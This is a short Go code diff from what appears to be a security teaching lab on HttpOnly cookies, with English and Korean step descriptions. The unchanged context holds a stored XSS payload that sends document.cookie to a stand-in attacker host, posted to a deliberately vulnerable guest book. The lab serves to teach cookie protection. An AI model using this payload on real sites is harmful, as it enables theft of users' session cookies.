@@ -74,6 +74,7 @@ func (l *cookieVisit) httpOnly() error {
 		En: "HttpOnly. The attacker leaves a comment with a script in it; the guest book shows it as it came (attackable on purpose)",
 		Ko: "HttpOnly. 공격자가 스크립트가 든 댓글을 남기고, 방명록은 그것을 받은 그대로 보여 줍니다(일부러 공격할 수 있게 한 것)",
 	})
+	l.browser.DeleteCookies()
 	script := `<script>new Image().src="` + l.url(Attacker, cookieEvilHost, "/evil/take?c=") + `"+encodeURIComponent(document.cookie)</script>`
 	target := l.url(Server, cookieShopHost, "/cookie/guestbook")
 	if _, err := l.ask(l.attacker, http.StatusNoContent, Request{
